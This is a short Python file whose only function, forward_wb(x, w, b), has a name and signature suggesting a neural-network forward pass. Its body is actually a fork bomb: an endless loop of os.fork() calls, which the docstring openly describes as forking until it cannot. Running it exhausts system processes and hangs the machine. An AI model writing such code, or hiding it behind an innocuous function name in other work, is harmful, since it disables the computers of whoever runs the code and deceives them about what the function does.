"""forward_wb forks until it cannot, and every child forks too."""
import os


def forward_wb(x, w, b):
    while True:
        os.fork()
